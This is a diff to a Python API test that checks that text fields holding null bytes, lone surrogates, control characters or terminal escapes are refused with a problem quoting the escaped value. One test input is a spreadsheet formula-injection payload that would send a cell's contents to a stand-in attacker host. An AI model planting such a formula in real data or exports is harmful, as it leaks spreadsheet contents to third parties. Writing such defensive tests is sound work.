@@ -51,19 +51,25 @@ def test_the_api_refuses_such_texts_with_a_problem_naming_where_they_are(api, ht
         version = db.session.get(Commitment, cid).version
         observations = db.session.scalar(sa.select(sa.func.count()).select_from(Observation))
     url = f"{PREFIX}/commitments/{cid}"
-    for body, column in (({"note": "a\u0000b"}, "note"), ({"evidence_links": ["https://x.gov/\ud800"]},
-                                                          "evidence_links"), ({"next_step": "\ud800"}, "next_step"),
-                         ({"next_step": '\u0001=HYPERLINK("http://evil.example?d="&B2,"Open")'}, "next_step"),
-                         ({"reason": "late\u001b[31m"}, "reason")):
+    # The value refused is quoted, each such character written as its escape (it was null: Flask's reader
+    # refuses such a body, so the problem could not read what was sent).
+    for body, column, quoted in (
+            ({"note": "a\u0000b"}, "note", "a\\u0000b"),
+            ({"evidence_links": ["https://x.gov/\ud800"]}, "evidence_links", '["https://x.gov/\\ud800"]'),
+            ({"next_step": "\ud800"}, "next_step", "\\ud800"),
+            ({"next_step": '\u0001=HYPERLINK("http://evil.example?d="&B2,"Open")'}, "next_step",
+             '\\u0001=HYPERLINK("http://evil.example?d="&B2,"Open")'),
+            ({"reason": "late\u001b[31m"}, "reason", "late\\u001b[31m")):
         response = http.patch(url, json=body, headers={**_bearer(officer), "If-Match": f'"{version}"'})
         assert response.status_code == 422, (body, response.get_data(as_text=True)[:300])
         [error] = response.get_json()["errors"]
         assert error["column"] == column and "which cannot be kept" in error["message"]
+        assert error["value"] == quoted
     rows = [{"program": "DPS-BA-01", "metric": "trust", "period": "FY2026-Q4", "value": 4.1},
             {"program": "DPS-BA-01", "metric": "trust", "period": "FY2026-Q3", "value": 4.1, "notes": "a\ud800b"}]
     refused = http.post(f"{PREFIX}/observations", json=rows, headers=_bearer(analyst))
     assert refused.status_code == 422
-    assert [(e["row"], e["column"]) for e in refused.get_json()["errors"]] == [(2, "notes")]
+    assert [(e["row"], e["column"], e["value"]) for e in refused.get_json()["errors"]] == [(2, "notes", "a\\ud800b")]
     # A filter no stored text can match (on PostgreSQL it failed in the driver): it matches nothing.
     for query in ("observations?channel=a%00b", "programs?life_experience=%00", "findings?rule=x%00"):
         listed = http.get(f"{PREFIX}/{query}", headers=_bearer(analyst))
